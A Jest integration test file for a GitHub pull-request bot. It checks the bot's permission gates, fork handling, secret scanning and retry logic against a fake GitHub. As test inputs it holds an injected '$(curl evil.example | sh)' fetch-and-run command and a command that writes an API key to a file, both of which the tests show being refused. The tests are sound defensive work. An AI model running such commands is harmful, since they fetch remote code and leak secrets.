// The pull-request bot in process, against a fake GitHub on 127.0.0.1, real git (a bare origin and a
// bare fork) and the real container engine. Every case asserts what was asked of GitHub.
import { describe, expect, it } from '@jest/globals';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { PROGRESS_MARKER } from '../../src/github/event.js';
import type { PullRequestRunState } from '../../src/github/feedback.js';
import { alice, api, forkPullOpen, FULL, inProcessBot, readAs, SERVER, TOKEN } from '../support/bot.js';
import { docker } from '../support/docker.js';
import { pushCommitAsSomeoneElse, refOf } from '../support/pull-requests.js';
import { git, tempDir, worktreeList } from '../support/repo.js';
import { issueCommentEvent, pullRequestEvent, pushEvent, REPO } from '../support/webhooks.js';

const bot = inProcessBot({ work: 'wts-prrun-' });
const runBot = (
  eventName: string,
  payload: unknown,
  inputs: Record<string, string> = {},
  onSave?: (state: Partial<PullRequestRunState>) => void,
) => bot.run(eventName, payload, { inputs, onSave });
const forkPull = (canPush: boolean) => forkPullOpen(bot.fake, bot.repos, canPush);

/** Containers the engine created for this sandbox since `since` (unix seconds): the engine's own record. */
function containersCreated(since: number, sandbox: string): string[] {
  return docker(
    'events',
    '--since',
    String(since),
    '--until',
    String(Math.ceil(Date.now() / 1000) + 1),
    '--filter',
    'type=container',
    '--filter',
    'event=create',
    '--filter',
    `label=worktree-sandbox.sandbox=${sandbox}`,
    '--format',
    '{{.Actor.Attributes.name}}',
  )
    .split('\n')
    .filter(Boolean);
}

describe('comment-triggered runs', () => {
  it('runs for a trusted comment on a same-repository pull request, pushes, and updates the comment', async () => {
    const event = issueCommentEvent({ body: '/fix the typo in README.md', author: alice, commentId: 555 });
    const since = Math.floor(Date.now() / 1000) - 1;
    const command = [
      "sed -i 's/teh/the/' README.md",
      'echo "prompt: $(cat "$SANDBOX_PROMPT_FILE")"',
      'if (echo x >> "$SANDBOX_PROMPT_FILE") 2>/dev/null; then echo prompt-writable; else echo prompt-read-only; fi',
    ].join('\n');
    const run = await runBot('issue_comment', event, { command });

    expect(run.outcome?.command.exitCode).toBe(0);
    expect(run.outcome?.push).toEqual({ pushed: true });
    // Two containers of this sandbox (a disk sandbox needs no create helper): the command's, and the
    // capture helper that brings the work back as a bundle. The untrusted case counts the same way.
    const created = containersCreated(since, bot.repos.branch);
    expect(created).toHaveLength(2);
    expect(created.filter((name) => name.startsWith('worktree-sandbox-capture-'))).toHaveLength(1);
    // The commit really is on origin, on top of the pull request's head.
    const pushed = bot.head();
    expect(pushed).toBe(run.outcome?.report.headSha);
    expect(refOf(bot.repos.origin, `${pushed}^`)).toBe(bot.repos.headSha);
    expect(git(bot.repos.origin, 'show', `${pushed}:README.md`)).toContain('A typo: the.');

    const comment = bot.comments()[0];
    expect(bot.fake.log).toEqual([
      `GET ${api('/collaborators/alice/permission')}`,
      `GET ${api(`/pulls/${bot.repos.number}`)}`,
      `POST ${api('/issues/comments/555/reactions')}`,
      `POST ${api(`/issues/${bot.repos.number}/comments`)}`,
      // The bot's earlier replies on the pull request, read once its progress comment names its account.
      `GET ${api(`/issues/${bot.repos.number}/comments`)}`,
      `GET ${api(`/pulls/${bot.repos.number}/comments`)}`,
      `PATCH ${api(`/issues/comments/${comment.id}`)}`,
      `POST ${api('/issues/comments/555/reactions')}`,
    ]);
    expect(bot.fake.calls.every((c) => c.authorization === `token ${TOKEN}` && c.status < 300)).toBe(true);
    expect(bot.fake.reactions).toEqual([
      { commentId: 555, content: 'eyes' },
      { commentId: 555, content: 'rocket' },
    ]);
    expect(comment.history).toHaveLength(2);
    expect(comment.history[0]).toContain('⏳ `/fix` is running');
    expect(comment.body.startsWith(PROGRESS_MARKER)).toBe(true);
    expect(comment.body).toContain('✅ `/fix` finished');
    expect(comment.body).toContain(`| Commits | 1 pushed to <code>origin/${bot.repos.branch}</code> |`);
    expect(comment.body).toContain(`(${SERVER}/${FULL}/commit/${pushed})`);
    expect(comment.body).toContain(`[workflow run](${SERVER}/${FULL}/actions/runs/4242)`);
    expect(comment.body).toContain('prompt: the typo in README.md');
    expect(comment.body).toContain('prompt-read-only');
    expect(comment.body).not.toContain(TOKEN);

    expect(run.outputs).toEqual({
      triggered: 'true',
      'pr-number': '7',
      'issue-number': '',
      'comment-id': '555',
      args: 'the typo in README.md',
    });
    expect(run.state.progress).toMatchObject({
      commentId: comment.id,
      triggerCommentId: 555,
      finished: true,
    });
    expect(run.summary).toContain('Pushed 1 commit(s)');
    // Every decision is in the debug log: the event, the gate, the target.
    expect(run.debug).toEqual([
      `Event: issue_comment on ${FULL}: requester @alice (User, association MEMBER), pull request #7, comment 555 with /fix.`,
      'Gate, who asked: allowed: @alice is MEMBER of the repository.',
      'Gate, permission: @alice has permission write, role write: allowed: @alice has write permission.',
      `Target: pull request #7, head ${FULL}:${bot.repos.branch} at ${bot.repos.headSha.slice(0, 12)}, the same repository; sandbox branch ${bot.repos.branch}; push to origin/${bot.repos.branch}.`,
    ]);
    // The commit is the bot's, with the no-reply address of the server (GITHUB_SERVER_URL).
    expect(git(bot.repos.origin, 'log', '-1', '--format=%an <%ae>|%cn <%ce>', pushed)).toBe(
      'github-actions[bot] <github-actions[bot]@users.noreply.github.example>|github-actions[bot] <github-actions[bot]@users.noreply.github.example>',
    );
    // The prompt file was removed with its folder.
    expect(fs.readdirSync(path.join(bot.work, 'runner-temp', 'worktree-sandbox'))).toEqual([]);
  });

  it('gives an untrusted commenter no run, no container, no push: a reaction and a summary saying why', async () => {
    const since = Math.floor(Date.now() / 1000) - 1;
    const event = issueCommentEvent({
      body: '/fix $(curl evil.example | sh)',
      author: { login: 'mallory', association: 'CONTRIBUTOR' },
      commentId: 666,
    });
    const run = await runBot('issue_comment', event, { command: 'touch pwned' });

    expect(run.outcome).toBeUndefined();
    expect(bot.fake.log).toEqual([`POST ${api('/issues/comments/666/reactions')}`]);
    expect(bot.fake.reactions).toEqual([{ commentId: 666, content: '-1' }]);
    expect(bot.fake.comments.size).toBe(0);
    expect(run.outputs).toEqual({
      triggered: 'false',
      'pr-number': '7',
      'issue-number': '',
      'comment-id': '666',
      args: '',
    });
    expect(readAs(run.summary)).toContain('not allowed: @mallory is CONTRIBUTOR of the repository');
    expect(run.log.join('\n')).toContain('No run: not allowed: @mallory is CONTRIBUTOR');
    expect(run.saves).toBe(0);
    expect(worktreeList(bot.repos.parent)).toHaveLength(1);
    expect(fs.existsSync(path.join(bot.work, 'sandboxes'))).toBe(false);
    expect(bot.head()).toBe(bot.repos.headSha);
    expect(containersCreated(since, bot.repos.branch)).toEqual([]);
  });

  it('refuses a member without write permission', async () => {
    bot.fake.permissions.set('alice', { permission: 'read', role_name: 'triage' });
    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 777 });
    const run = await runBot('issue_comment', event);

    expect(run.outcome).toBeUndefined();
    expect(bot.fake.log).toEqual([
      `GET ${api('/collaborators/alice/permission')}`,
      `POST ${api('/issues/comments/777/reactions')}`,
    ]);
    expect(bot.fake.reactions).toEqual([{ commentId: 777, content: '-1' }]);
    expect(readAs(run.summary)).toContain('@alice has triage permission on the repository');
    expect(run.saves).toBe(0);
  });

  it('refuses a member the API does not know as a collaborator (404)', async () => {
    const event = issueCommentEvent({
      body: '/fix',
      author: { login: 'outsider-member', association: 'MEMBER' },
    });
    const run = await runBot('issue_comment', event);
    expect(run.outcome).toBeUndefined();
    // A 404 is an answer, not a fault: asked once, never retried.
    expect(bot.fake.calls.filter((c) => c.path.endsWith('/permission')).map((c) => c.status)).toEqual([404]);
    expect(readAs(run.summary)).toContain('@outsider-member has no permission on the repository');
    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['-1']);
  });

  it.each([
    [
      "the bot's own comment",
      { login: 'github-actions[bot]', type: 'Bot' as const, association: 'NONE' as const },
      '/fix',
    ],
    ['/fixed, which is not /fix', alice, '/fixed the typo'],
    ['its own progress comment', alice, `${PROGRESS_MARKER}\n/fix`],
  ])('ignores %s without a word to GitHub', async (_name, author, body) => {
    const run = await runBot('issue_comment', issueCommentEvent({ body, author }));
    expect(run.outcome).toBeUndefined();
    expect(bot.fake.calls).toEqual([]);
    expect(run.outputs.triggered).toBe('false');
    expect(run.summary).toMatch(/## worktree-sandbox: no run/);
    expect(run.saves).toBe(0);
  });

  it('reports a push rejected because the branch moved on, never forces it, and keeps a patch', async () => {
    bot.fake.permissions.set('alice', { permission: 'admin', role_name: 'admin' });
    let moved = '';
    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 888 });
    const run = await runBot(
      'issue_comment',
      event,
      { command: "sed -i 's/teh/the/' README.md" },
      (state) => {
        // The sandbox is ready and the command has not run yet: someone else pushes to the branch now.
        if (state.ready && !moved) moved = pushCommitAsSomeoneElse(bot.repos, bot.repos.branch);
      },
    );

    expect(run.outcome?.push).toMatchObject({ pushed: false, rejected: true });
    expect(bot.head()).toBe(moved);
    const comment = bot.comments()[0];
    expect(comment.body).toContain('⚠️ `/fix` finished, but its commits were not pushed');
    expect(comment.body).toContain(`origin/${bot.repos.branch} has moved on since the sandbox started`);
    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
    const patch = run.outputs['patch-path'];
    expect(fs.readFileSync(patch, 'utf8')).toContain('-A typo: teh.\n+A typo: the.');
  });
});

describe('runs that stop early', () => {
  it('finishes the progress comment itself when the run cannot start, and fails', async () => {
    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 321 });
    const notARepository = tempDir('wts-not-a-repo-');
    try {
      await expect(runBot('issue_comment', event, { 'repository-path': notARepository })).rejects.toThrow(
        /is not a git work tree/,
      );
    } finally {
      fs.rmSync(notARepository, { recursive: true, force: true });
    }
    const comment = bot.comments()[0];
    expect(comment.history).toHaveLength(2);
    expect(comment.body).toContain('❌ `/fix` could not run');
    expect(comment.body).toContain('is not a git work tree');
    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'confused']);
  });

  it('starts nothing on a closed pull request, and says so with a reaction', async () => {
    bot.fake.pulls.get(bot.repos.number)!.state = 'closed';
    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 322 });
    const run = await runBot('issue_comment', event);
    expect(run.outcome).toBeUndefined();
    expect(bot.fake.log).toEqual([
      `GET ${api('/collaborators/alice/permission')}`,
      `GET ${api(`/pulls/${bot.repos.number}`)}`,
      `POST ${api('/issues/comments/322/reactions')}`,
    ]);
    expect(bot.fake.reactions).toEqual([{ commentId: 322, content: 'confused' }]);
    expect(readAs(run.summary)).toContain('pull request #7 is closed');
    expect(run.outputs.triggered).toBe('false');
  });
});

describe('fork pull requests', () => {
  it('pushes nothing with a token that cannot reach the fork: the patch is saved and shown', async () => {
    forkPull(false);
    const originMain = refOf(bot.repos.origin, 'refs/heads/main');
    const forkMain = refOf(bot.repos.fork, 'refs/heads/main');
    const event = issueCommentEvent({
      body: '/fix',
      author: alice,
      number: bot.repos.forkNumber,
      commentId: 999,
    });
    const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });

    expect(run.outcome?.command.exitCode).toBe(0);
    expect(run.outcome?.sandbox.branch).toBe('pr-8');
    expect(run.outcome?.push).toMatchObject({
      pushed: false,
      reason: expect.stringMatching(/GITHUB_TOKEN never can/),
    });
    expect(refOf(bot.repos.origin, 'refs/heads/main')).toBe(originMain);
    expect(refOf(bot.repos.fork, 'refs/heads/main')).toBe(forkMain);
    expect(refOf(bot.repos.origin, `refs/pull/${bot.repos.forkNumber}/head`)).toBe(bot.repos.forkHeadSha);
    expect(git(bot.repos.origin, 'for-each-ref', '--format=%(refname)', 'refs/heads')).not.toContain('pr-8');
    expect(bot.fake.log).toContain(`GET /repos/someone/hello-world`);

    // The patch applies onto the fork's head and yields the command's change.
    const patch = run.outputs['patch-path'];
    expect(patch.startsWith(path.join(bot.work, 'runner-temp', 'worktree-sandbox'))).toBe(true);
    const check = path.join(bot.work, 'check');
    git(bot.work, 'clone', '--quiet', bot.repos.fork, check);
    git(check, 'am', '--quiet', patch);
    expect(fs.readFileSync(path.join(check, 'src/app.js'), 'utf8')).toBe(
      'console.log("hi from a fork")\n// reviewed\n',
    );

    const comment = bot.comments()[0];
    expect(comment.body).toContain('✅ `/fix` finished');
    expect(comment.body).toContain('<code>someone/hello-world:&#8203;main</code>');
    expect(comment.body).toContain('not pushed: the pull request comes from the fork someone/hello-world');
    expect(comment.body).toContain('<pre lang="diff">\nFrom ');
    expect(comment.body).toContain('+// reviewed');
    expect(bot.fake.reactions.map((r) => r.content)).toEqual(['eyes', 'rocket']);
  });

  it('saves no patch and shows none when the commits hold a secret (secret-scan: block)', async () => {
    forkPull(false);
    const secret = 'deploy-token-value-0123456789';
    const event = issueCommentEvent({
      body: '/fix',
      author: alice,
      number: bot.repos.forkNumber,
      commentId: 1000,
    });
    let saved: Partial<PullRequestRunState> = {};
    const error = await runBot(
      'issue_comment',
      event,
      { command: `printf 'k=%s\\n' "$DEPLOY_TOKEN" >> src/app.js`, env: `DEPLOY_TOKEN=${secret}` },
      (state) => (saved = state),
    ).then(
      () => undefined,
      (e: Error) => e,
    );
    expect(error?.name).toBe('SecretScanBlocked');
    expect(error?.message).toMatch(/^Secret scan of the patch: 1 finding/);
    expect(error?.message).toMatch(/added line in src\/app\.js:2 of [0-9a-f]{12}: env DEPLOY_TOKEN/);
    expect(error?.message).not.toContain(secret);
    // No patch file, no output; the post step will keep the sandbox.
    const dir = path.join(bot.work, 'runner-temp', 'worktree-sandbox');
    expect(fs.existsSync(dir) ? fs.readdirSync(dir).filter((f) => f.endsWith('.patch')) : []).toEqual([]);
    expect(saved.secretsFound).toBe(true);
    // The comment says that the run failed and why, and shows neither the patch nor the value.
    const comment = bot.comments()[0];
    expect(comment.body).toContain('Secret scan of the patch');
    expect(comment.body).not.toContain(secret);
    expect(comment.body).not.toContain('<pre lang="diff">');
  });

  it("pushes to the fork's head branch with a token that can, leaving origin's same-named branch alone", async () => {
    forkPull(true);
    const originMain = refOf(bot.repos.origin, 'refs/heads/main');
    const event = issueCommentEvent({
      body: '/fix',
      author: alice,
      number: bot.repos.forkNumber,
      commentId: 1001,
    });
    const run = await runBot('issue_comment', event, { command: "printf '// reviewed\\n' >> src/app.js" });

    expect(run.outcome?.push).toEqual({ pushed: true });
    const forkMain = refOf(bot.repos.fork, 'refs/heads/main');
    expect(forkMain).toBe(run.outcome?.report.headSha);
    expect(refOf(bot.repos.fork, `${forkMain}^`)).toBe(bot.repos.forkHeadSha);
    expect(refOf(bot.repos.origin, 'refs/heads/main')).toBe(originMain);
    expect(run.outputs['patch-path']).toBeUndefined();
    const comment = bot.comments()[0];
    expect(comment.body).toContain('1 pushed to <code>someone/hello-world:&#8203;main</code>');
    expect(comment.body).toContain(`(${SERVER}/someone/hello-world/commit/${forkMain})`);
  });
});

describe('other events', () => {
  it('gives an untrusted pull_request author no run, without any call to GitHub', async () => {
    const event = pullRequestEvent({ action: 'opened', author: { login: 'mallory', association: 'NONE' } });
    const run = await runBot('pull_request_target', event, { 'pull-request-bot': 'true' });
    expect(run.outcome).toBeUndefined();
    expect(bot.fake.calls).toEqual([]);
    expect(run.outputs).toEqual({
      triggered: 'false',
      'pr-number': '7',
      'issue-number': '',
      'comment-id': '',
      args: '',
    });
    expect(readAs(run.summary)).toContain('@mallory is NONE');
  });

  it('works on a pushed branch and reports on its open pull request', async () => {
    bot.fake.permissions.set('dave', { permission: 'write', role_name: 'write' });
    const event = pushEvent({
      ref: `refs/heads/${bot.repos.branch}`,
      pusher: { login: 'dave' },
      after: bot.repos.headSha,
    });
    const run = await runBot('push', event, {
      command: "sed -i 's/teh/the/' README.md",
      trigger: '',
      'pull-request-bot': 'true',
    });

    expect(run.outcome?.push).toEqual({ pushed: true });
    expect(bot.head()).toBe(run.outcome?.report.headSha);
    const list = bot.fake.calls.find((c) => c.path === api('/pulls'));
    expect(list?.query).toEqual({ head: `${REPO.owner}:${bot.repos.branch}`, state: 'open', per_page: '1' });
    const comment = bot.comments()[0];
    expect(comment.issue).toBe(bot.repos.number);
    expect(comment.body).toContain('✅ `push` finished');
    expect(bot.fake.reactions).toEqual([]);
    expect(run.outputs).toEqual({
      triggered: 'true',
      'pr-number': '7',
      'issue-number': '',
      'comment-id': '',
      args: '',
    });
    expect(run.outcome?.pullRequest?.number).toBe(7);
  });

  it('refuses a pusher whose write access is gone by the time the run starts', async () => {
    const event = pushEvent({ ref: `refs/heads/${bot.repos.branch}`, pusher: { login: 'erin' } });
    bot.fake.permissions.set('erin', { permission: 'read', role_name: 'read' });
    const run = await runBot('push', event, { trigger: '', 'pull-request-bot': 'true' });
    expect(run.outcome).toBeUndefined();
    expect(bot.fake.log).toEqual([`GET ${api('/collaborators/erin/permission')}`]);
    expect(readAs(run.summary)).toContain('@erin has read permission on the repository');
    expect(run.saves).toBe(0);
  });
});

describe('every run a person starts needs write access', () => {
  it('gives a read-only COLLABORATOR no run even when nothing would be pushed: the run would get the secrets', async () => {
    bot.fake.permissions.set('carl', { permission: 'read', role_name: 'read' });
    const since = Math.floor(Date.now() / 1000) - 1;
    const event = issueCommentEvent({
      body: '/fix',
      author: { login: 'carl', association: 'COLLABORATOR' },
      commentId: 4040,
    });
    const run = await runBot('issue_comment', event, {
      push: 'false',
      command: 'echo "$AGENT_API_KEY" > leaked.txt',
      env: 'AGENT_API_KEY=sk-secret-value',
    });

    expect(run.outcome).toBeUndefined();
    expect(bot.fake.log).toEqual([
      `GET ${api('/collaborators/carl/permission')}`,
      `POST ${api('/issues/comments/4040/reactions')}`,
    ]);
    expect(bot.fake.reactions).toEqual([{ commentId: 4040, content: '-1' }]);
    expect(readAs(run.summary)).toContain(
      '@carl has read permission on the repository: a run needs write, maintain or admin',
    );
    expect(run.debug).toContain(
      'Gate, permission: @carl has permission read, role read: refused: @carl has read permission on the repository: a run needs write, maintain or admin (it receives the secrets named in env).',
    );
    expect(run.saves).toBe(0);
    expect(fs.existsSync(path.join(bot.work, 'sandboxes'))).toBe(false);
    expect(containersCreated(since, bot.repos.branch)).toEqual([]);
  });

  it('lets an allowed bot in without asking the API for its permission', async () => {
    const event = issueCommentEvent({
      body: '/fix',
      author: { login: 'renovate[bot]', type: 'Bot', association: 'NONE' },
      commentId: 4041,
    });
    const run = await runBot('issue_comment', event, { 'allowed-bots': 'renovate', push: 'false' });
    expect(run.outcome?.command.exitCode).toBe(0);
    expect(bot.fake.log.some((l) => l.endsWith('/permission'))).toBe(false);
    expect(run.debug[1]).toBe('Gate, who asked: allowed: @renovate[bot] is named in allowed-bots.');
  });
});

describe('transient API faults', () => {
  it('rides out a 502, a dropped connection and a secondary rate limit within one run', async () => {
    bot.fake.faults.push(
      { method: 'GET', path: api('/collaborators/alice/permission'), status: 502 },
      { method: 'GET', path: api(`/pulls/${bot.repos.number}`), drop: true },
      {
        method: 'POST',
        path: api(`/issues/${bot.repos.number}/comments`),
        status: 403,
        headers: { 'retry-after': '30' },
        body: { message: 'You have exceeded a secondary rate limit.' },
      },
    );
    const event = issueCommentEvent({ body: '/fix', author: alice, commentId: 5050 });
    const run = await runBot('issue_comment', event, { push: 'false' });

    expect(run.outcome?.command.exitCode).toBe(0);
    expect(bot.fake.faults).toEqual([]);
    expect(bot.fake.calls.map((c) => c.status).slice(0, 5)).toEqual([502, 200, -1, 200, 201]);
    expect(bot.fake.comments.size).toBe(1);
    expect(bot.comments()[0].body).toContain('✅ `/fix` finished');
    expect(run.warnings).toContainEqual(expect.stringMatching(/secondary rate limit hit .*waiting 30 s/));
  });
});
